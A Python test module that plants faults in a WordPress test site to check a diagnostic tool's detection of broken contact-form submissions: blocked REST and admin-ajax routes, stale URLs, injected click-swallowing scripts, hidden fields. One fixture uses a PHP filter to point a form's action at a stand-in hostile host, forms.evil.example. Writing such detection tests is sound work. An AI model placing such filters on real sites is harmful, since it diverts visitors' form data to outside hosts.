"""Faults between button and WordPress: closed roads, wrong addresses, scripts that break, fields that nobody sees."""

from __future__ import annotations

from collections.abc import Iterator

from tests.planted.forms.fault import fault
from tests.planted.forms.ground import Ground
from tests.planted.forms.pages import CF7, FLUENT, GRAVITY, NINJA, WPFORMS

SENT = ("pressed", "arrived")
_FORBIDDEN = "header( 'Server: guard' ); status_header( 403 ); exit( '<h1>403 Forbidden</h1>' );"


@fault(
    "REST API closed to visitors, 401",
    CF7,
    "form.page.rest_blocked",
    "form.browser.rest_blocked",
    stages=(*SENT, "validated"),
)
def rest_closed(ground: Ground) -> Iterator[str]:
    code = (
        "add_filter( 'rest_authentication_errors', fn( $e ) => false === strpos( $_SERVER['REQUEST_URI'], "
        "'contact-form-7' ) ? $e "
    )
    code += ": new WP_Error( 'rest_cannot_access', 'Only for members', array( 'status' => 401 ) ) );"
    with ground.running(code):
        yield ground.pages[CF7]


@fault(
    "firewall answers the REST route itself, 403", CF7, "form.page.rest_blocked", "form.browser.blocked", stages=SENT
)
def rest_forbidden(ground: Ground) -> Iterator[str]:
    with ground.running(f"if ( strpos( $_SERVER['REQUEST_URI'], 'contact-form-7/v1' ) ) {{ {_FORBIDDEN} }}"):
        yield ground.pages[CF7]


@fault(
    "pretty links of the REST API broken, 404", CF7, "form.page.rest_blocked", "form.browser.route_missing", stages=SENT
)
def rest_gone(ground: Ground) -> Iterator[str]:
    gone = "status_header( 404 ); exit( '<h1>Not Found</h1>' );"
    with ground.running(f"if ( strpos( $_SERVER['REQUEST_URI'], 'contact-form-7/v1' ) ) {{ {gone} }}"):
        yield ground.pages[CF7]


def _ajax_closed(ground: Ground, plugin: str) -> Iterator[str]:
    with ground.running(f"if ( strpos( $_SERVER['REQUEST_URI'], 'admin-ajax.php' ) ) {{ {_FORBIDDEN} }}"):
        yield ground.pages[plugin]


@fault(
    "wp-admin locked with admin-ajax.php in it",
    FLUENT,
    "form.page.ajax_blocked",
    "form.browser.ajax_blocked",
    stages=SENT,
)
def ajax_closed(ground: Ground) -> Iterator[str]:
    yield from _ajax_closed(ground, FLUENT)


@fault("Ninja Forms: admin-ajax.php locked", NINJA, "form.page.ajax_blocked", "form.browser.ajax_blocked", stages=SENT)
def ninja_ajax_closed(ground: Ground) -> Iterator[str]:
    yield from _ajax_closed(ground, NINJA)


@fault("firewall refuses POSTs of the form", WPFORMS, "form.browser.blocked", "form.trace.not_arrived", stages=SENT)
def posts_refused(ground: Ground) -> Iterator[str]:
    with ground.running(f"if ( isset( $_POST['wpforms'] ) ) {{ {_FORBIDDEN} }}"):
        yield ground.pages[WPFORMS]


@fault(
    "entry's request dies before WordPress answers",
    GRAVITY,
    "form.browser.no_answer",
    "form.browser.server_error",
    "form.trace.not_arrived",
    stages=SENT,
)
def server_dies(ground: Ground) -> Iterator[str]:
    with ground.running("if ( isset( $_POST['gform_submit'] ) ) { status_header( 502 ); exit; }"):
        yield ground.pages[GRAVITY]


@fault(
    "script sends to the staging host", CF7, "form.page.posts_elsewhere", "form.browser.posts_elsewhere", stages=SENT
)
def staging_rest(ground: Ground) -> Iterator[str]:
    with ground.rewriting(r"#\"root\": \"[^\"]+\"#", r'"root": "http:\/\/staging.old-agency.example\/wp-json\/"'):
        yield ground.pages[CF7]


@fault(
    "admin-ajax of the old domain in the page",
    FLUENT,
    "form.page.posts_elsewhere",
    "form.browser.posts_elsewhere",
    stages=SENT,
)
def old_ajax(ground: Ground) -> Iterator[str]:
    with ground.rewriting(
        r"#\"ajaxUrl\":\"[^\"]+\"#", r'"ajaxUrl":"http://old-bakery.example/wp-admin/admin-ajax.php"'
    ):
        yield ground.pages[FLUENT]


@fault(
    "the form's own action leads to another site",
    GRAVITY,
    "form.page.posts_elsewhere",
    "form.browser.posts_elsewhere",
    stages=SENT,
)
def foreign_action(ground: Ground) -> Iterator[str]:
    with ground.running(
        "add_filter( 'gform_form_tag', fn( $tag ) => preg_replace( \"/action='[^']*'/\", "
        "\"action='http://forms.evil.example/x'\", $tag ) );"
    ):
        yield ground.pages[GRAVITY]


@fault("action that is no address", WPFORMS, "form.page.target_unusable", stages=SENT)
def mailto(ground: Ground) -> Iterator[str]:
    with ground.rewriting(
        r'#(id="wpforms-form-\d+"[^>]*) action="[^"]*"#', r'$1 action="mailto:office@aftercare.test"'
    ):
        yield ground.pages[WPFORMS]


_FOOTER = "add_action( 'wp_footer', function () {{ if ( is_page() ) {{ echo '{html}'; }} }}, 99 );"


def _footer(ground: Ground, plugin: str, html: str) -> Iterator[str]:
    with ground.running(_FOOTER.format(html=html.replace("'", r"\'"))):
        yield ground.pages[plugin]


@fault(
    "a plugin's script swallows the click",
    CF7,
    "form.browser.nothing_happens",
    "form.browser.script_error",
    stages=("pressed",),
)
def swallowed(ground: Ground) -> Iterator[str]:
    script = "<script>document.addEventListener('submit',e=>{e.preventDefault();e.stopImmediatePropagation();"
    script += "notThere();},true)</script>"
    yield from _footer(ground, CF7, script)


@fault(
    "a plugin breaks the form's script",
    FLUENT,
    "form.browser.script_error",
    "form.browser.nothing_happens",
    stages=("pressed",),
)
def broken_script(ground: Ground) -> Iterator[str]:
    script = (
        "<script>jQuery(document).on('submit','form.frm-fluent-form',function(){});jQuery.ajax=function(){throw new "
    )
    script += "TypeError('gallery is undefined')}</script>"
    yield from _footer(ground, FLUENT, script)


@fault(
    "required field hidden by the theme's style", CF7, "form.browser.hidden_required", stages=("pressed", "validated")
)
def hidden_required(ground: Ground) -> Iterator[str]:
    yield from _footer(ground, CF7, "<style>.wpcf7 [data-name=your-email]{display:none!important}</style>")


@fault("the button stays switched off", GRAVITY, "form.browser.button_off", stages=("pressed", "shown"))
def button_off(ground: Ground) -> Iterator[str]:
    button = f"#gform_submit_button_{ground.forms[GRAVITY]}"
    script = f"<script>document.querySelector('{button}').disabled=true</script>"
    yield from _footer(ground, GRAVITY, script)


@fault("a banner lies over the form", CF7, "form.browser.covered", stages=("pressed", "shown"))
def covered(ground: Ground) -> Iterator[str]:
    yield from _footer(
        ground, CF7, '<div class="promo" style="position:fixed;inset:0;background:#fff;z-index:99999">Sale</div>'
    )
